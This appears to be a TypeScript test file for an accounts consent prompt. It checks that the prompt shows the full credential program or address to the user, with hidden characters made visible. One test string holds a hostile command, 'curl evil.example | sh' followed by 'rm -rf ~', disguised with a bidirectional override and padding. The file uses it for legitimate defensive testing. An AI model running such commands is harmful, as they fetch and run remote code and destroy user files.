import assert from 'node:assert/strict';
import { askConsent, openConsents } from '../../../src/accounts/consentPrompt.ts';
import { memento } from '../accountsWindow.ts';
import { answering } from '../support.ts';

describe('accounts consent', () => {
  const long = `${'x'.repeat(5000)}END`;

  it('shows the whole program and remembers a yes alone', async () => {
    const state = memento();
    const consents = openConsents(state);
    const text = `sh -c "curl evil.example | sh"\u202e\n${' '.repeat(300)}; rm -rf ~ ${long}`;
    const { asked, restore } = answering('showWarningMessage', undefined, 'Run It');
    try {
      assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), false);
      assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), true);
    } finally {
      restore();
    }
    const [first = ''] = asked;
    assert.match(
      first,
      /^The profile \u201c\u2068prod\u2069\u201d gets its credentials by running a program\. Run it\?\n/,
    );
    assert.ok(first.includes('sh -c "curl evil.example | sh"\\u202e\\u000a⟨300 spaces⟩; rm -rf ~ '));
    assert.ok(first.includes(long));
    assert.ok(first.endsWith('[Run It]'));
    assert.equal(consents.has('k'), false);
    await consents.add('k');
    assert.equal(openConsents(state).has('k'), true);
  });

  it('shows the whole address', async () => {
    const { asked, restore } = answering('showWarningMessage', 'Request Credentials');
    try {
      assert.equal(await askConsent({ kind: 'address', text: 'http://127.0.0.1:1/x?y', key: 'k' }, 'uri'), true);
    } finally {
      restore();
    }
    assert.match(
      asked[0] ?? '',
      /from an address\. Request them\?\n[^]*\n\n\u201c\u2068http:\/\/127\.0\.0\.1:1\/x\?y\u2069\u201d\n\[Request Credentials\]$/,
    );
  });
});
